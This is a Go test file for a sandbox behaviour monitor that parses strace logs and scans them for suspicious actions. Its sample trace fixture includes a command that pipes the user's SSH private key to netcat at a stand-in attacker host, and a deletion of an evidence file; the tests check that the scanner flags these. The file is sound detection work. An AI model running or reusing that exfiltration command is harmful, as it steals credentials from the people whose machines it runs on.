package behave

import (
	"fmt"
	"strings"
	"testing"
)

// A log as strace -f --pidns-translation writes it under the agent: the
// setup (prlimit, bwrap) and the agent's own calls are left out, the
// artifact's processes, files and direct connections kept, a child's
// calls logged before its parent's clone returned included, resumed and
// padded lines joined.
const sampleTrace = `100 execve("/usr/bin/prlimit", ["/usr/bin/prlimit", "--nproc=64"], 0x7ffd /* 2 vars */) = 0
100 openat(AT_FDCWD, "/etc/secret-of-setup", O_RDONLY) = 3
100 clone(child_stack=NULL, flags=CLONE_NEWNS|CLONE_NEWPID|SIGCHLD) = 101
101 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|SIGCHLD, child_tidptr=0x7f) = 2 /* 102 in strace's PID NS */
102 execve("/.attest/agent", ["/.attest/agent", "sandbox-agent", "--session"], 0x55 /* 4 vars */) = 0
102 openat(AT_FDCWD, "/home/user/.ssh/id_rsa", O_WRONLY|O_CREAT|O_TRUNC, 0600) = 3
102 clone3({flags=CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM, exit_signal=0}, 88) = 3 /* 103 in strace's PID NS */
103 clone(child_stack=NULL, flags=CLONE_VM|CLONE_PIDFD|CLONE_VFORK|SIGCHLD <unfinished ...>
104 execve("/bin/sh", ["/bin/sh", "-c", "cat ~/.ssh/id_rsa | nc evil.example 9"], 0x11 /* 4 vars */ <unfinished ...>
103 <... clone resumed>, parent_tid=[14]) = 4 /* 104 in strace's PID NS */
104 <... execve resumed>)             = 0
104 vfork( <unfinished ...>
105 execve("/usr/bin/cat", ["cat", "/home/user/.ssh/id_rsa"], 0x22 /* 4 vars */) = 0
104 <... vfork resumed>)              = 5 /* 105 in strace's PID NS */
105 openat(AT_FDCWD, "/usr/lib/x86_64-linux-gnu/libc.so.6", O_RDONLY|O_CLOEXEC) = 3
105 openat(AT_FDCWD, "/home/user/.ssh/id_rsa", O_RDONLY) = 3
105 openat(AT_FDCWD, "/home/user/.ssh/id_rsa", O_RDONLY) = 3
106 execve("/usr/bin/nc", ["nc", "evil\x2eexample", "9"], 0x33 /* 4 vars */) = 0
104 clone(child_stack=NULL, flags=SIGCHLD) = 6 /* 106 in strace's PID NS */
106 connect(3, {sa_family=AF_INET, sin_port=htons(9), sin_addr=inet_addr("203.0.113.7")}, 16) = -1 ENETUNREACH (Network is unreachable)
106 connect(4, {sa_family=AF_INET, sin_port=htons(3128), sin_addr=inet_addr("127.0.0.1")}, 16) = 0
105 unlinkat(AT_FDCWD, "/work/evidence", 0) = -1 ENOENT (No such file or directory)
105 +++ exited with 0 +++
104 --- SIGCHLD {si_signo=SIGCHLD} ---
`

func TestParseTrace(t *testing.T) {
	l := ParseTrace(strings.NewReader(sampleTrace))
	var procs []string
	for _, p := range l.Processes {
		if p.Connect != "" {
			procs = append(procs, "connect "+p.Connect)
		} else {
			procs = append(procs, strings.Join(p.Argv, " "))
		}
	}
	want := []string{"/bin/sh -c cat ~/.ssh/id_rsa | nc evil.example 9", "cat /home/user/.ssh/id_rsa", "nc evil.example 9", "connect 203.0.113.7:9"}
	if strings.Join(procs, "\n") != strings.Join(want, "\n") {
		t.Fatalf("processes:\n%s\nwant\n%s", strings.Join(procs, "\n"), strings.Join(want, "\n"))
	}
	var files []string
	for _, f := range l.Files {
		files = append(files, f.Op+" "+f.Path)
	}
	// The agent's planting of the decoy, the setup's read and the loader's
	// are not the artifact's; a repeated read is recorded once.
	if strings.Join(files, ",") != "read /home/user/.ssh/id_rsa,delete /work/evidence" || l.Files[1].OK {
		t.Fatalf("files: %+v", l.Files)
	}
	if l.Method != "strace" || l.Truncated {
		t.Fatalf("%+v", l)
	}
	// The scan reads the same ledger: the key read fails, the direct
	// connection warns, nc warns.
	rules := map[string]string{}
	for _, f := range Scan(l) {
		rules[f.Rule] = f.Severity
	}
	if rules[RuleSensitiveFile] != "fail" || rules[RuleDirectConnect] != "warn" || rules[RuleSensitiveShell] != "warn" {
		t.Fatalf("scan: %v", rules)
	}
}

// An overlong line is skipped, not the rest of the log.
func TestParseTraceOverlongLine(t *testing.T) {
	long := `102 execve("/.attest/agent", [], 0x0) = 0
102 clone(child_stack=NULL, flags=SIGCHLD) = 2 /* 103 in strace's PID NS */
103 execve("/bin/x", ["x", "` + strings.Repeat("a", maxTraceLine) + `"], 0x0) = 0
103 openat(AT_FDCWD, "/work/after", O_RDONLY) = 3
`
	l := ParseTrace(strings.NewReader(long))
	if !l.Truncated || len(l.Files) != 1 || l.Files[0].Path != "/work/after" {
		t.Fatalf("%+v", l)
	}
}

func FuzzParseTrace(f *testing.F) {
	f.Add(sampleTrace)
	f.Add("1 execve(\"\\\", [\"\\x\"], 0) = 0\n1 <... x resumed>) = 1\n")
	f.Fuzz(func(t *testing.T, s string) {
		l := ParseTrace(strings.NewReader(s))
		if len(l.Files) > MaxFileEvents || len(l.Processes) > MaxProcEvents {
			t.Fatal("a ledger past its bound")
		}
		Scan(l)
	})
}

func TestUnquote(t *testing.T) {
	for in, want := range map[string]string{`"a\nb"`: "a\nb", `"\33[0m"`: "\x1b[0m", `"\x41\""`: `A"`, `"cut"...`: "cut", `"\\"`: `\`} {
		if got, ok := unquote(in); !ok || got != want {
			t.Errorf("unquote(%s) = %q, want %q", in, got, want)
		}
	}
	if _, ok := unquote("NULL"); ok {
		t.Error("NULL unquoted")
	}
}

// The agent's installer is left out of the ledger; an artifact process
// that names itself the same is not.
func TestParseTraceInstaller(t *testing.T) {
	const log = `102 execve("/.attest/agent", ["/.attest/agent"], 0x0) = 0
102 clone(child_stack=NULL, flags=SIGCHLD) = 2 /* 103 in strace's PID NS */
103 execve("/bin/sh", ["/bin/sh", "-c", "npm install", "attest-prepare"], 0x0) = 0
103 openat(AT_FDCWD, "/home/user/.npmrc", O_RDONLY) = -1 ENOENT (No such file or directory)
102 clone(child_stack=NULL, flags=SIGCHLD) = 3 /* 104 in strace's PID NS */
104 execve("/usr/bin/node", ["node", "/work/app/index.js"], 0x0) = 0
104 clone(child_stack=NULL, flags=SIGCHLD) = 4 /* 105 in strace's PID NS */
105 execve("/bin/sh", ["/bin/sh", "-c", "cat ~/.npmrc", "attest-prepare"], 0x0) = 0
105 openat(AT_FDCWD, "/home/user/.npmrc", O_RDONLY) = -1 ENOENT (No such file or directory)
104 execve("/bin/sh", ["/bin/sh", "-c", "x", "attest-prepare"], 0x0) = 0
`
	l := ParseTrace(strings.NewReader(log))
	if len(l.Files) != 1 || len(l.Processes) != 3 || l.Processes[0].Argv[0] != "node" {
		t.Fatalf("files %+v processes %+v", l.Files, l.Processes)
	}
}

// BenchmarkParseTrace reads a trace of 2,000 processes each opening 20
// files: the size of a busy behavioral case.
func BenchmarkParseTrace(b *testing.B) {
	var sb strings.Builder
	sb.WriteString("100 execve(\"/.attest/agent\", [\"/.attest/agent\"], 0x0) = 0\n")
	for p := 0; p < 2000; p++ {
		pid := 1000 + p
		fmt.Fprintf(&sb, "100 clone(child_stack=NULL, flags=SIGCHLD) = %d /* %d in strace's PID NS */\n", p+2, pid)
		fmt.Fprintf(&sb, "%d execve(\"/usr/bin/python3\", [\"python3\", \"/artifact/x.py\", \"%d\"], 0x0 /* 4 vars */) = 0\n", pid, p)
		for f := 0; f < 20; f++ {
			fmt.Fprintf(&sb, "%d openat(AT_FDCWD, \"/work/data/%d/%d.txt\", O_RDONLY|O_CLOEXEC) = 3\n", pid, p, f)
		}
	}
	log := sb.String()
	b.SetBytes(int64(len(log)))
	b.ResetTimer()
	for b.Loop() {
		l := ParseTrace(strings.NewReader(log))
		if len(l.Processes) != 2000 {
			b.Fatal(len(l.Processes))
		}
	}
}
